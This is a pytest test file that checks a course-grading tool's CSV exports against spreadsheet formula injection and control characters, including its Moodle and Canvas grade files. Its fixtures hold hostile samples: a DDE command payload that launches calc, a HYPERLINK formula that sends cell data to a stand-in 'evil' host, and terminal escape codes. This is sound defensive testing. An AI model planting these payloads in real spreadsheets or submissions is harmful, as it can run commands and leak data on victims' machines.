"""Every CSV derive writes opens in a spreadsheet as data: no cell starts a formula (CSV injection, OWASP),
a number stays a number, no control character is kept."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from derive.cli import main
from derive.course.spreadsheet import cell, csv_text
from tests.course import keys

SIGNS = "=+-@"


def _safe(text: str) -> bool:
    """What a spreadsheet evaluates: a cell whose first character (after spaces) is a formula's sign, but a
    plain number (or a lone -, which it shows as text); or a control character anywhere."""
    if any(unicodedata.category(c) == "Cc" for c in text):
        return False
    if text == "-" or re.fullmatch(r"-?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?", text):
        return True
    return not text.lstrip(" ")[:1] in tuple(SIGNS)


@pytest.mark.parametrize(("given_", "written"), [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ('=HYPERLINK("http://evil/?"&A1,"click")', '\'=HYPERLINK("http://evil/?"&A1,"click")'),
    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("  =1+1", "'  =1+1"),
    ("\t=1+1", "\\t=1+1"), ("\r=1+1", "\\r=1+1"), ("a\x1b[2Jb\x07c\x00", "a\\x1b[2Jb\\x07c\\x00"),
    ("-0.0137", "-0.0137"), ("0.00005", "0.00005"), ("-1e-05", "-1e-05"), ("1", "1"), ("Zoë 张", "Zoë 张"),
    ("dE_total/dw5", "dE_total/dw5"), ("-", "-"), ("--", "'--"), ("", ""),
])
def test_a_cell(given_: str, written: str) -> None:
    assert cell(given_) == written


@settings(max_examples=400, deadline=None)
@given(st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=12), min_size=1, max_size=4),
                max_size=5))
def test_any_cells_read_back_safe(rows: list[list[str]]) -> None:
    width = max((len(r) for r in rows), default=1)
    text = csv_text([[f"c{k}" for k in range(width)], *rows])
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert len(read) == len(rows) + 1
    for given_row, read_row in zip(rows, read[1:], strict=True):
        assert len(read_row) == len(given_row)
        for given_, got in zip(given_row, read_row, strict=True):
            assert _safe(got)
            plain = not any(unicodedata.category(c) == "Cc" for c in given_)
            if plain:  # the cell is the text itself, or it behind one '
                assert got in (given_, "'" + given_)


HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/","x")', "+1+1", "-2+3", "@SUM(A1)",
           "\x1b[2J\x07bell", " =1+1"]


def test_grades_csv_keeps_no_formula_and_key_csv_keeps_its_numbers(tmp_path: Path) -> None:
    ex = tmp_path / "ex"
    assert main(["exercise", "mazur", "--variants", "3", "--seed", "1", "--out", str(ex)]) == 0
    key_rows = list(csv.DictReader(io.StringIO((ex / "key.csv").read_text(encoding="utf-8"))))
    answers = [row["answer"] for row in key_rows]
    assert any(a.startswith("-") for a in answers) and all(float(a) == float(a) for a in answers)
    key = json.loads((ex / "key.json").read_text(encoding="utf-8"))
    assert [row["answer"] for row in key_rows] == [q["shown"] for v in key["variants"] for q in v["questions"]]
    handins = tmp_path / "handins"
    handins.mkdir()
    truth = {q["claim"]: q["shown"] for q in key["variants"][0]["questions"]}
    for number, name in enumerate(HOSTILE):
        (handins / f"{number}.claims").write_text(keys.handin(1, truth, student=name.replace("\n", " ")),
                                                   encoding="utf-8")
    (handins / "=cmd|' calc'!A0.claims").write_text(keys.handin(1, truth), encoding="utf-8")
    (handins / "-1+2.claims").write_text("no variant here\n", encoding="utf-8")
    assert main(["grade", str(ex), str(handins), "--jobs", "1", "--out", str(tmp_path / "grades")]) == 0
    for export in ("moodle-grades.csv", "canvas-grades.csv"):  # the learning platforms' files too
        text = (tmp_path / "grades" / export).read_text(encoding="utf-8")
        assert all(_safe(c) for row in csv.reader(io.StringIO(text, newline="")) for c in row), export
        assert "'=cmd|' calc'!A0" in text and "\\x1b[2J\\x07bell" in text
    rows = list(csv.reader(io.StringIO((tmp_path / "grades" / "grades.csv").read_text(encoding="utf-8"),
                                       newline="")))
    assert len(rows) == len(HOSTILE) + 3
    assert all(_safe(c) for row in rows for c in row), rows
    names = [row[0] for row in rows[1:]]
    assert "'=cmd|' calc'!A0" in names and "'-1+2" in names and "'=cmd|' /C calc'!A0" in names
    assert "\\x1b[2J\\x07bell" in names
    graded = [row for row in rows[1:] if not row[2].startswith("unreadable")]
    assert len(graded) == len(HOSTILE) + 1 and {row[2] for row in graded} == {"6"}
